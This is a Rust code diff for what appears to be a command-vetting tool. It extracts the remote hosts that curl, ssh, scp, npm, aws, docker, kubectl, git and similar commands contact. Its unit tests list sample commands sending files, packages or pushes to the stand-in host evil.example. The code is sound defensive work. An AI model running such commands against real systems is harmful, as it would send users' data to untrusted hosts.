@@ -1,6 +1,6 @@
 //! Which hosts a client asks: its operands, told apart from the values of its options, and where an address says it lies.
 
-use super::network::{host_in, short_option};
+use super::network::{bare_host, host_in, short_option};
 use crate::classify::call::{Arg, Call};
 
 /// The options of one client.
@@ -111,17 +111,22 @@ const SCP: Client =
 const SFTP: Client =
     Client { operands: Operands::Session, letters: "BbcDFiJloPRSsX", elsewhere: &["o", "F", "S", "D", "b"], ..SSH };
 
+/// The client of this name.
+fn client(name: &str) -> Option<&'static Client> {
+    match name {
+        "curl" => Some(&CURL),
+        "wget" => Some(&WGET),
+        "ssh" => Some(&SSH),
+        "scp" => Some(&SCP),
+        "sftp" => Some(&SFTP),
+        _ => None,
+    }
+}
+
 /// The hosts that a call of one of these clients asks, in the order of its words; `None` stands for one that its text does not name.
 /// No list for another program, whose options are not known here.
 pub(super) fn hosts(call: &Call, name: &str) -> Option<Vec<Option<String>>> {
-    let client = match name {
-        "curl" => &CURL,
-        "wget" => &WGET,
-        "ssh" => &SSH,
-        "scp" => &SCP,
-        "sftp" => &SFTP,
-        _ => return None,
-    };
+    let client = client(name)?;
     let mut found = Vec::new();
     let mut note = |host: Option<String>| {
         if !found.contains(&host) {
@@ -263,6 +268,62 @@ impl Operands {
             }
         }
     }
+}
+
+/// The files in an address of socat (socat(1), "ADDRESS TYPES").
+pub(crate) fn files_in_address(word: &str) -> impl Iterator<Item = &str> {
+    const OPENS: &[&str] = &["file", "open", "gopen", "create"];
+    let parts = word.split(['!', ',']).filter_map(|part| part.split_once(':'));
+    parts.filter(|(kind, _)| OPENS.iter().any(|open| kind.eq_ignore_ascii_case(open))).map(|(_, path)| path)
+}
+
+/// The host of each address with a scheme in a word, wherever it stands.
+pub(super) fn in_word(text: &str) -> impl Iterator<Item = Option<String>> {
+    text.match_indices("://").map(|(at, _)| {
+        let before = text.get(..at).unwrap_or_default();
+        let start = before.rfind(|c: char| !c.is_ascii_alphanumeric()).map_or(0, |at| at + 1);
+        text.get(start..).and_then(host_in)
+    })
+}
+
+/// How options end whose value is a host, or an address.
+const NAME_HOSTS: &[&str] = &[
+    "host",
+    "hostname",
+    "server",
+    "endpoint",
+    "endpoint-url",
+    "proxy",
+    "registry",
+    "url",
+    "address",
+    "api-url",
+    "smtp",
+];
+
+/// The hosts that the words of a program name whose options are not known one by one: in addresses, wherever these stand, and behind
+/// options that are called like it.
+pub(crate) fn hosts_in_words(program: &str, words: &[&str]) -> Vec<String> {
+    let mut found: Vec<String> = Vec::new();
+    if program == "git" || client(program).is_some() {
+        return found;
+    }
+    let names_host = |option: &str| {
+        let name = option.strip_prefix("--").or_else(|| option.strip_prefix('-'));
+        name.is_some_and(|name| NAME_HOSTS.iter().any(|end| name == *end || name.ends_with(&format!("-{end}"))))
+    };
+    let mut previous = "";
+    for word in words {
+        found.extend(in_word(word).flatten());
+        let (option, value) = word.split_once('=').unwrap_or((previous, word));
+        let is_value = names_host(option) && !value.starts_with('-') && !value.contains("://") && !value.is_empty();
+        if is_value {
+            found.push(host_in(value).unwrap_or_else(|| bare_host(value)));
+        }
+        previous = word;
+    }
+    found.retain(|host| !host.is_empty());
+    found
 }
 
 /// The hosts that a subcommand of git which talks to a remote names, behind its own name: the remote, or its address, stands first.
@@ -593,6 +654,15 @@ mod tests {
             ("scp u@a.example:x evil.example:y", vec![a, evil]),
             ("scp -i k ./x:y a.example:z", vec![a]),
             ("sftp a.example", vec![a]),
+            ("aws s3 ls --endpoint-url=https://evil.example", vec![unnamed, evil]),
+            ("aws --endpoint-url http://evil.example:9000 s3 ls", vec![evil]),
+            ("npm publish --registry https://evil.example/", vec![unnamed, evil]),
+            ("npm install --https-proxy=evil.example:80 x", vec![unnamed, evil]),
+            ("docker --host=tcp://evil.example:2375 pull x", vec![unnamed, evil]),
+            ("mail -S smtp=smtp://evil.example x@a.example", vec![a, evil]),
+            ("kubectl --server evil.example get pods", vec![unnamed, evil]),
+            ("gh api --hostname evil.example user", vec![unnamed, evil]),
+            ("gh pr create --body 'see https://a.example/x'", vec![unnamed]),
             ("git push origin main", vec![unnamed]),
             ("git push https://u@a.example/x main", vec![a]),
             ("git push evil.example:x main", vec![evil]),
